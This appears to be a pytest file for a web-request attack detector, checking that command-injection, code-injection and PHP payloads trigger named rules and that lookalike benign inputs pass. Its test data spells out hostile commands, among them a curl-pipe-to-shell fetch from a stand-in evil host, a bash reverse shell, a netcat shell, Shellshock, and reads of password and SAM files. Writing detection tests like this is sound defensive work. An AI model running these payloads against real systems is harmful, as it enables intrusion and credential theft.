"""Command injection (932xxx), code injection (934140-934220), PHP (933xxx) and web shells.

The rules' own examples, the ``cmd_line`` transform's evasion handling, then
whole requests through the engine and the ASGI middleware (signal type,
location, rule id), and the prose, product names and passwords that must pass.
"""

from __future__ import annotations

from typing import Any

import pytest
from detect_harness import Req, asgi_signals, engine, engine_signals, fired, rule_examples, types

from devsecmw.engine.rules import Rule
from devsecmw.engine.transforms import cmd_line

RCE_TYPES = {"cmdi", "code_injection", "php", "backdoor"}


@pytest.mark.parametrize(
    ("rule", "example", "should_match"),
    rule_examples("932-cmdi.json", "933-php.json", "934-code-injection.json"),
)
def test_rule_examples(rule: Rule, example: str, should_match: bool) -> None:
    assert (rule.matches_value(example) is not None) is should_match


def test_all_rules_compile_into_the_engine() -> None:
    """Every view's prefilters compile together (RE2 sets have tighter limits than one pattern)."""
    for level in (1, 4):
        ids = {r.id for r in engine(level).rules}
        assert {"932100", "932105", "933150", "933180", "934140", "934155"} <= ids


# --------------------------------------------------------------------------- cmd_line
@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("c$@at /et$@c/pas$@swd", "cat/etc/passwd"),
        ("cat$u /etc$u/passwd", "cat/etc/passwd"),
        ("pi``ng 127.0.0.1", "ping 127.0.0.1"),
        ("pi$()ng", "ping"),
        ("pi<()ng", "ping"),
        ("una$$me -a", "uname -a"),
        ("a; sh$XX -c whoami", "a; sh -c whoami"),
        ("c\\at /etc/p\\asswd", "cat/etc/passwd"),
        ("ti''me sh -c whoami", "time sh -c whoami"),
        ("w^h^o^a^m^i", "whoami"),
        ("{cat,/etc/passwd}", "{cat/etc/passwd}"),
        ("cat${IFS}/etc/passwd", "cat/etc/passwd"),
        ("x \n  cat /etc/passwd", "x\ncat/etc/passwd"),
    ],
)
def test_cmd_line_undoes_shell_evasions(value: str, expected: str) -> None:
    assert cmd_line(value)[0] == expected


# --------------------------------------------------------------------------- whole requests
ATTACKS = [
    (Req.query("host", "www.example.com;c$@at /et$@c/pas$@swd"), "cmdi", "query:host", "932100"),
    (Req.query("ip", "127.0.0.1 && /???/c?t /???/p??s??"), "cmdi", "query:ip", "932130"),
    (Req.form("cmd", "| nc -lvvp 4444 -e /bin/sh"), "cmdi", "body:form:cmd", "932100"),
    (Req.form("cmd", "uname -a"), "cmdi", "body:form:cmd", "932105"),
    (
        Req.json_body({"job": {"hook": "curl http://evil.example/x.sh | sh"}}),
        "cmdi",
        "body:json:job.hook",
        "932105",
    ),
    (Req.json_body({"n": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}), "cmdi", "body:json:n", "932130"),
    (Req.query("f", "& type C:\\Windows\\repair\\SAM"), "cmdi", "query:f", "932110"),
    (Req.header("user-agent", "() { :;}; /bin/bash -c 'id'"), "cmdi", "header:user-agent", "932170"),
    (Req.query("p", '<!--#exec cmd="/bin/cat /etc/passwd"-->'), "cmdi", "query:p", "932180"),
    (Req.query("x", "system('cat /etc/passwd')"), "cmdi", "query:x", "932190"),
    (Req.query("x", "@{[system 'whoami']}"), "code_injection", "query:x", "934140"),
    (Req.form("expr", "Kernel.exec('id')"), "code_injection", "body:form:expr", "934150"),
    (Req.json_body({"code": "__import__('os').system('id')"}), "code_injection", "body:json:code", "934155"),
    (
        Req.query("user__profile__password__startswith", "a"),
        "code_injection",
        "query:user__profile__password__startswith",
        "934220",
    ),
    (Req.query("code", "<?php system($_GET['c']); ?>"), "php", "query:code", "933100"),
    (Req.form("f", "php://filter/convert.base64-encode/resource=index.php"), "php", "body:form:f", "933140"),
    (Req.json_body({"a": "eval(base64_decode('ZWNobyAxOw=='))"}), "php", "body:json:a", "933150"),
    (Req.query("x", "$__['o'](5)"), "php", "query:x", "933180"),
    (Req.query("d", 'O:8:"stdClass":1:{s:1:"a";i:1;}'), "php", "query:d", "933170"),
    (
        Req("/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input"),
        "php",
        "query:-d allow_url_include=1 -d auto_prepend_file=php://input",
        "933120",
    ),
    (Req.path("/get/eval(gzinflate(str_rot13(base64_decode('x'))))"), "php", "path", "933150"),
]


@pytest.mark.parametrize(("req", "type_", "location", "rule_id"), ATTACKS)
def test_attack_detected(req: Req, type_: str, location: str, rule_id: str) -> None:
    assert (type_, location, rule_id) in fired(engine_signals(req))


def test_php_upload_file_name() -> None:
    body = (
        b'--b\r\nContent-Disposition: form-data; name="file"; filename="avatar.php.jpg"\r\n'
        b"Content-Type: image/jpeg\r\n\r\n\xff\xd8\xff\r\n--b--\r\n"
    )
    req = Req("/upload", "POST", body=body, content_type="multipart/form-data; boundary=b")
    assert ("php", "body:multipart:file:filename", "933110") in fired(engine_signals(req))


BENIGN = [
    Req.query("q", "cats and dogs"),
    Req.query("q", "Tom & Jerry"),
    Req.query("brand", "Dot & Echo"),
    Req.query("q", "Mouse & Cat toys"),
    Req.query("q", "Ruby & Python courses"),
    Req.query("q", "Birthday & Bash decorations"),
    Req.query("q", "Curl & Wave cream."),
    Req.query("q", "Eat & Sleep 8 hours a night"),
    Req.query("sort", "id"),
    Req.query("fields", "id;name;email"),
    Req.query("q", "which python course"),
    Req.query("q", "ls"),
    Req.form("company", "Smith & Sons, Inc. | Est. 1920"),
    Req.form("message", "Hi,\ncat lovers welcome; bring your own food | free entry"),
    Req.form("message", "1. open `cat` and confirm\n2. click `sleep` or press enter\n3. select `echo`"),
    Req.form("password", "GuREm$A9(45hl*"),
    Req.form("pwd", "s#9uT#$d(8s+("),
    Req.json_body({"password": "+N^6ZybnpM&IWr", "company": "Echo Labs Ltd"}),
    Req.json_body({"query": "query {\n  viewer {\n    id\n    name\n  }\n}"}),
    Req.json_body({"text": "The system (as designed) works; evaluate (carefully) and copy (2) files."}),
    Req.json_body({"snippet": "$(document).ready(function () { return 1; });"}),
    Req.json_body({"price": "costs $100 (approx)", "note": "import the data first"}),
    Req.json_body({"filter": {"created_at__gte": "2024-01-01", "name__icontains": "bob"}}),
    Req.query("q", '<?xml version="1.0"?>'),
    Req.header("user-agent", "python-requests/2.31.0"),
    Req.header("user-agent", "curl/8.4.0"),
]


@pytest.mark.parametrize("req", BENIGN)
def test_benign_look_alikes_pass(req: Req) -> None:
    assert not types(engine_signals(req)) & RCE_TYPES


def test_through_the_asgi_middleware(otel: Any) -> None:
    events = asgi_signals(Req.form("cmd", ";cat /etc/passwd"), otel)
    hits = {
        (e["devsecmw.signal.type"], e["devsecmw.signal.location"], e.get("security_rule.uuid"))
        for e in events
    }
    assert ("cmdi", "body:form:cmd", "932100") in hits


def test_paranoia_2_adds_history_expansion() -> None:
    req = Req.query("rce", "!-1!-2")
    assert "cmdi" not in types(engine_signals(req, paranoia=1))
    assert ("cmdi", "query:rce", "932330") in fired(engine_signals(req, paranoia=2))
